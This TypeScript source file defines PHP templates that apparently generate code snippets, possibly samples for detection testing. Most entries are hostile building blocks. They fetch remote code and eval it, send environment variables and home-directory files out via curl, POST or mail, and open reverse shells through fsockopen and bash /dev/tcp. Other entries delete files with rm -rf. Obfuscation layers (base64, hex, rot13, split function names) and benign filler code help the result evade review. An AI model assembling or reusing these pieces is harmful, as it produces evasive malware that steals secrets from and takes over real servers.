/** PHP. */
import { reversed, shortName, toBase64, toHex } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const single = (text: string): string => `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'")}'`;

const GATHER = `function gather($folder, $names) {
    $text = '';
    foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($folder)) as $file) {
        if (in_array($file->getFilename(), $names, true)) {
            $text .= «file_get_contents»($file->getPathname());
        }
    }
    return $text;
}`;
const PULL = `function pull($url) {
    $line = «curl_init»($url);
    curl_setopt($line, CURLOPT_RETURNTRANSFER, true);
    $text = «curl_exec»($line);
    curl_close($line);
    return $text;
}`;
const POST = `function post_text($url, $text) {
    $line = «curl_init»($url);
    curl_setopt($line, CURLOPT_POSTFIELDS, $text);
    curl_setopt($line, CURLOPT_RETURNTRANSFER, true);
    «curl_exec»($line);
}`;

export const PHP: Tongue = {
  language: "php",
  fetched: [
    "«file_get_contents»($1)",
    "«@pull»($1)",
    "«shell_exec»('curl -fsSL ' . $1)",
    "(new \\GuzzleHttp\\Client())->get($1)->getBody()->getContents()",
    "stream_get_contents(«fopen»($1, 'r'))",
  ],
  decoders: [
    { encode: toBase64, row: "«base64_decode»($1)" },
    { encode: toHex, row: "«hex2bin»($1)" },
    { encode: reversed, row: "«strrev»($1)" },
    {
      encode: (text) =>
        toBase64(
          text.replace(/[a-z]/gi, (letter) =>
            String.fromCharCode((((letter.charCodeAt(0) & 31) + 12) % 26) + 1 + (letter.charCodeAt(0) & 96)),
          ),
        ),
      row: "«str_rot13»(«base64_decode»($1))",
    },
    {
      encode: (text) => [...Buffer.from(text)].map((byte) => byte + 2).join(","),
      row: "implode('', array_map(fn ($code) => chr((int) $code - 2), explode(',', $1)))",
    },
  ],
  variable: ["«getenv»($1)", "$_ENV[$1]", "$_SERVER[$1]"],
  request: ["$_GET[$1]", "$_POST[$1]", "$_REQUEST[$1]", "$_COOKIE[$1]", "$_SERVER['HTTP_' . $1]"],
  environment: [
    "«json_encode»(«getenv»())",
    "«http_build_query»($_SERVER)",
    "«shell_exec»('env')",
    "«serialize»($_ENV)",
  ],
  homeFile: [
    "«file_get_contents»(«getenv»('HOME') . '/' . $1)",
    "implode('', file(«getenv»('HOME') . '/' . $1))",
    "«shell_exec»('cat ~/' . $1)",
  ],
  file: ["«file_get_contents»($1)", "implode('', file($1))"],
  homePath: "getenv('HOME') . '/' . $1",
  walk: ["«@gather»(«getenv»('HOME') . '/' . $1, $2)"],
  run: [
    "«shell_exec»($1)",
    "«exec»($1)",
    "«system»($1)",
    "«passthru»($1)",
    "pclose(«popen»($1, 'r'))",
    "«proc_open»($1, [], $pipes)",
  ],
  runWithOptions: [
    "«proc_open»(['sh', '-c', $1], [1 => ['file', '/dev/null', 'w'], 2 => ['file', '/dev/null', 'w']], $pipes, null, null, ['bypass_shell' => true])",
  ],
  evaluate: ["eval($1)", "include «@stored»($1)", "eval('?>' . '<?php ' . $1)"],
  send: [
    "«file_get_contents»($1, false, stream_context_create(['http' => ['method' => 'POST', 'content' => $2]]))",
    "«@post_text»($1, $2)",
    "(new \\GuzzleHttp\\Client())->post($1, ['body' => $2])",
    "«file_get_contents»($1 . '?q=' . urlencode($2))",
    "«shell_exec»('curl -s --data-binary ' . escapeshellarg($2) . ' ' . $1)",
    "«mail»('c@' . parse_url($1, PHP_URL_HOST), 'report', $2)",
  ],
  save: ["«file_put_contents»($1, $2)", "fwrite(«fopen»($1, 'w'), $2)"],
  append: ["«file_put_contents»($1, $2, FILE_APPEND)"],
  remove: ["«shell_exec»('rm -rf ' . escapeshellarg($1))", "array_map('unlink', glob($1 . '/*'))"],
  setVariable: ["putenv($1 . '=' . $2)"],
  handShell: [
    "(function ($line) { «proc_open»('sh', [$line, $line, $line], $pipes); })(«fsockopen»($1, (int) $2))",
    "«exec»(\"bash -c 'bash -i >& /dev/tcp/\" . $1 . '/' . $2 . \" 0>&1'\")",
  ],
  helpers: {
    gather: GATHER,
    pull: PULL,
    post_text: POST,
    stored:
      "function stored($text) {\n    $path = tempnam(sys_get_temp_dir(), 'c') . '.php';\n    «file_put_contents»($path, '<?php ' . $text);\n    return $path;\n}",
  },
  quote: single,
  concat: (parts) => (parts.length > 4 ? `implode('', [${parts.join(", ")}])` : parts.join(" . ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `$${name} = ${value};`,
  reference: (name) => `$${name}`,
  define: (name, parameters, row, gives) =>
    `function ${name}(${parameters.map((one) => `$${one}`).join(", ")}) {\n    ${gives === "value" ? "return " : ""}${row};\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => `${expression};`,
  callee(_, name, how) {
    if (how === "plain" || !/^[a-z_0-9]+$/.test(name)) return { text: name, imports: [] };
    if (how === "alias")
      return {
        text: `$${shortName(name)}`,
        imports: [],
        definitions: [],
        before: `$${shortName(name)} = ${single(name)};`,
      };
    return { text: `(${single(name.slice(0, 3))} . ${single(name.slice(3))})`, imports: [] };
  },
  comment: "//",
  ordinary: {
    definitions: [
      "function pad($value, $width = 3) {\n    return str_pad((string) $value, $width, '0', STR_PAD_LEFT);\n}",
      "function label($kind, $index) {\n    return $kind . '-' . pad($index);\n}",
    ],
    body: [
      "$limits = ['berth' => 12, 'quay' => 40];",
      "foreach ($limits as $kind => $limit) {\n    $labels[] = label($kind, $limit);\n}",
    ],
  },
  mayBreak: true,
  aliasesAreLocal: true,
  lettersOfCallees: true,
};
